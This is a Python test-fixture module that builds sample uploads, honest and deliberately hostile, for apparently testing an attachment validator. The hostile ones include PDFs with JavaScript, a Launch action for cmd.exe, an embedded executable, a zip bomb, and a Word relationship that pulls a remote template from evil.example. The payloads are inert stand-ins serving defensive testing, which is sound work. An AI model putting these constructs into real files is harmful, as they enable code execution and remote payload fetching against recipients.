"""Files for the tests of what may be attached: honest ones, and hostile ones built here."""

import io
import struct
import zipfile
import zlib

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
    create_string_object,
)

CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Override PartName="/word/document.xml"/></Types>'
)


def png(width: int = 1) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        sum_of = zlib.crc32(kind + body)
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", sum_of)

    header = struct.pack(">IIBBBBB", width, 1, 8, 0, 0, 0, 0)
    pixels = zlib.compress(b"\0" + b"\x7f" * width)
    start = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
    return start + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def jpeg() -> bytes:
    app0 = b"\xff\xe0\x00\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0"
    scan = b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + b"\x11" * 40
    return b"\xff\xd8" + app0 + scan + b"\xff\xd9"


def heic(brand: bytes = b"heic") -> bytes:
    def box(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body) + 8) + kind + body

    return box(b"ftyp", brand + b"\0\0\0\0mif1") + box(b"meta", b"\0" * 20) + box(b"mdat", b"x" * 9)


def pdf(change=None, **encrypt: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=72, height=72)
    if change:
        change(writer)
    if encrypt:
        writer.encrypt(**encrypt)
    stream = io.BytesIO()
    writer.write(stream)
    return stream.getvalue()


def with_script(writer: PdfWriter) -> None:
    script = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x()")}
    )
    names = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), script])})
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): names})


def with_launch(writer: PdfWriter) -> None:
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): create_string_object("cmd.exe")}
    )
    writer.root_object[NameObject("/OpenAction")] = action


def with_open_script(writer: PdfWriter) -> None:
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x()")}
    )
    writer.root_object[NameObject("/OpenAction")] = action


def with_file(writer: PdfWriter) -> None:
    writer.add_attachment("run.exe", b"MZ")


def with_form_sent(writer: PdfWriter) -> None:
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): DictionaryObject({NameObject("/S"): NameObject("/SubmitForm")})}
    )


def office(main: str = "word/document.xml", **more: bytes | str) -> bytes:
    """A Word or Excel file; ``more`` adds parts, their names with "__" for "/"."""
    parts = {"[Content_Types].xml": CONTENT_TYPES, main: b"<x/>"}
    parts |= {name.replace("__", "/").replace("_dot_", "."): body for name, body in more.items()}
    return archive(parts)


def archive(parts: dict[str, bytes | str], comment: bytes = b"") -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name, body in parts.items():
            zipped.writestr(name, body)
        zipped.comment = comment
    return stream.getvalue()


def bomb() -> bytes:
    return office(word__media__big=b"\0" * (30 * 1024 * 1024))


def locked_archive() -> bytes:
    """The flag of encryption set on every part, as a locked file has it."""
    content = bytearray(office())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        position = content.find(signature)
        while position >= 0:
            content[position + offset] |= 1
            position = content.find(signature, position + 4)
    return bytes(content)


EXTERNAL = (
    b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate"'
    b' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
LINK = (
    b'<Relationships><Relationship Id="r1" Type="http://x/hyperlink"'
    b' Target="http://union.example/" TargetMode="External"/></Relationships>'
)
